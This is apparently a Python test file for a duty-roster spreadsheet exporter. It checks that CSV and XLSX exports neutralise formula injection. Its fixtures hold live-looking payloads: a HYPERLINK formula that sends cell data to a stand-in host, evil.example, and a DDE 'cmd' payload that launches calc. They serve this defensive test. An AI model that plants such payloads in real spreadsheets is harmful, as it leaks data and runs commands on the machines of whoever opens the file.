"""Roster exports opened in Excel run nothing: a shift label or a name written as a formula
('=HYPERLINK(...)', '+cmd|...', '@SUM(...)') is text in the .xlsx and carries a leading apostrophe in the
.csv; both read back as written (the export stays importable)."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from hotline.roster_files.spreadsheet import read_csv, read_xlsx, write_csv, write_xlsx

EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
ROWS = [["日期", "班次", "一线"], ["2026-12-01", EVIL[0], "刘洋"], ["2026-12-02", EVIL[1], EVIL[2]],
        ["2026-12-03", "夜班", EVIL[3]]]
STAFF = [["姓名", "手机"], ["冯婷", "13800138004"], [EVIL[0], "010-12345678"]]


def test_csv_cells_are_neutralised_and_read_back_as_written() -> None:
    data = write_csv(ROWS)
    text = data.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "'+cmd" in text and "'@SUM" in text and "'-2+3" in text
    assert "\r\n2026-12-01," in text and ",夜班," in text  # dates and plain cells as they were
    assert read_csv(data) == ROWS


def test_xlsx_cells_are_text_not_formulas_and_read_back_as_written() -> None:
    data = write_xlsx(ROWS, STAFF)
    wb = load_workbook(io.BytesIO(data))  # formulas as formulas: data_only=False
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert wb.worksheets[0]["B2"].value == EVIL[0]
    sheets = read_xlsx(data)
    assert [list(r) for r in sheets.roster] == ROWS
    assert sheets.staff is not None and [list(r) for r in sheets.staff] == STAFF
